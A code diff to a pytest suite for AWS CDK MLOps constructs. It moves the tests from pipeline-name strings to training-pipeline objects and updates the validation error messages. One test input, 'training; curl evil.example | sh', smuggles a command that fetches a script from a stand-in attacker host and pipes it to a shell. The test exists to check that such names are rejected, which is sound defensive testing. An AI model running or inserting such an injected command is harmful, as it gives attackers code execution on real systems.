@@ -9,11 +9,12 @@ from typing import Any
 
 import aws_cdk as cdk
 import pytest
+from aws_cdk import aws_iam as iam
 from aws_cdk import aws_kms as kms
 from aws_cdk import aws_s3 as s3
 from aws_cdk.assertions import Template
 
-from cdk_mlops.constructs import BasicCi, CiSource
+from cdk_mlops.constructs import BasicCi, CiSource, TrainingPipeline, TrainingPipelineBase
 from tests.cdk_mlops.construct_fixtures import (
     TemplateView,
     arn_of,
@@ -72,11 +73,15 @@ def built() -> Built:
         "encryption_key": key,
         "logs_key": logs_key,
     }
-    s3_ci = BasicCi(stack, "S3Ci", sagemaker_pipeline_name="Churn-Training", **common)
+
+    def pipeline(name: str) -> TrainingPipelineBase:
+        return TrainingPipeline.from_pipeline_name(stack, f"Imported{name}", name)
+
+    s3_ci = BasicCi(stack, "S3Ci", training_pipeline=pipeline("Churn-Training"), **common)
     git_ci = BasicCi(
         stack,
         "GitCi",
-        sagemaker_pipeline_name="git-training",
+        training_pipeline=pipeline("git-training"),
         source=CiSource.connection(CONNECTION, "acme/churn-ml", branch="release"),
         test_commands=["pip install -e .", "pytest -q"],
         wait_for_pipeline=False,
@@ -87,7 +92,7 @@ def built() -> Built:
     other_ci = BasicCi(
         stack,
         "OtherCi",
-        sagemaker_pipeline_name="other",
+        training_pipeline=pipeline("other"),
         source=CiSource.s3_object(uploads, "projects/churn.zip"),
         **common,
     )
@@ -253,9 +258,11 @@ def test_only_run_pipeline_may_start_the_sagemaker_pipeline(built: Built) -> Non
         for s in built.statements("S3CiRunPipelineRole")
         if "sagemaker:StartPipelineExecution" in as_list(s["Action"])
     ]
+    # The pipeline's own grant_start: start and follow executions of that pipeline only.
     assert set(as_list(statement["Action"])) == {
         "sagemaker:StartPipelineExecution",
         "sagemaker:DescribePipelineExecution",
+        "sagemaker:ListPipelineExecutionSteps",
     }
     # SageMaker lower-cases pipeline names in ARNs.
     resources = [rendered(r) for r in as_list(statement["Resource"])]
@@ -296,7 +303,10 @@ def bucket_stack() -> tuple[cdk.Stack, s3.Bucket, kms.Key]:
 
 def _ci(bucket_stack: tuple[cdk.Stack, s3.Bucket, kms.Key], **props: Any) -> BasicCi:
     stack, bucket, key = bucket_stack
-    props.setdefault("sagemaker_pipeline_name", "training")
+    if "training_pipeline" not in props:
+        props["training_pipeline"] = TrainingPipeline.from_pipeline_name(
+            stack, f"Training{next(_ids)}", "training"
+        )
     return BasicCi(
         stack, f"Ci{next(_ids)}", artifact_bucket=bucket, encryption_key=key, logs_key=key, **props
     )
@@ -312,7 +322,7 @@ def _ci(bucket_stack: tuple[cdk.Stack, s3.Bucket, kms.Key], **props: Any) -> Bas
 )
 def test_fails_when_the_connection_arn_is_not_a_connection(bucket_stack: Any, arn: str) -> None:
     with pytest.raises(
-        ValueError, match=r"BasicCi: source.connection_arn=.* arn:aws:codeconnections"
+        ValueError, match=r"BasicCi at [\w/]+: source.connection_arn=.* arn:aws:codeconnections"
     ):
         _ci(bucket_stack, source=CiSource.connection(arn, "acme/ml"))
 
@@ -333,7 +343,7 @@ def test_accepts_a_codestar_connections_arn_and_a_token() -> None:
             artifact_bucket=bucket,
             encryption_key=key,
             logs_key=key,
-            sagemaker_pipeline_name="training",
+            training_pipeline=TrainingPipeline.from_pipeline_name(stack, f"P{i}", "training"),
             source=CiSource.connection(arn, "acme/ml"),
         )
         assert ci.source_rule is None
@@ -348,12 +358,12 @@ def test_fails_when_the_repository_is_not_owner_slash_name(
 
 
 def test_fails_when_the_source_is_neither_s3_nor_a_connection(bucket_stack: Any) -> None:
-    with pytest.raises(ValueError, match=r"BasicCi: source=.*CiSource.s3_object"):
+    with pytest.raises(ValueError, match=r"BasicCi at [\w/]+: source=.*CiSource.s3_object"):
         _ci(bucket_stack, source=CiSource())
 
 
 def test_fails_when_an_s3_source_has_no_key(bucket_stack: Any) -> None:
-    with pytest.raises(ValueError, match=r"BasicCi: source=.*CiSource.s3_object"):
+    with pytest.raises(ValueError, match=r"BasicCi at [\w/]+: source=.*CiSource.s3_object"):
         _ci(bucket_stack, source=CiSource(bucket=bucket_stack[1], object_key=""))
 
 
@@ -362,7 +372,20 @@ def test_fails_when_there_are_no_test_commands(bucket_stack: Any) -> None:
         _ci(bucket_stack, test_commands=[])
 
 
+@dataclass
+class _OtherPipeline:
+    """Any ITrainingPipeline implementation: BasicCi checks the name it puts into a shell command."""
+
+    pipeline_name: str
+    pipeline_arn: str = "arn:aws:sagemaker:eu-west-1:111122223333:pipeline/x"
+
+    def grant_start(self, grantee: iam.IGrantable) -> iam.Grant:
+        raise AssertionError("the name check must come first")
+
+
 @pytest.mark.parametrize("name", ["training; curl evil.example | sh", "my pipeline", "-x"])
 def test_fails_when_the_pipeline_name_is_not_a_sagemaker_name(bucket_stack: Any, name: str) -> None:
-    with pytest.raises(ValueError, match=r"BasicCi: sagemaker_pipeline_name="):
-        _ci(bucket_stack, sagemaker_pipeline_name=name)
+    with pytest.raises(ValueError, match=r"BasicCi at [\w/]+: training_pipeline.pipeline_name="):
+        _ci(bucket_stack, training_pipeline=_OtherPipeline(name))
+    with pytest.raises(ValueError, match=r"pipeline_name=.*existing pipeline"):
+        TrainingPipeline.from_pipeline_name(bucket_stack[0], f"Bad{next(_ids)}", name)
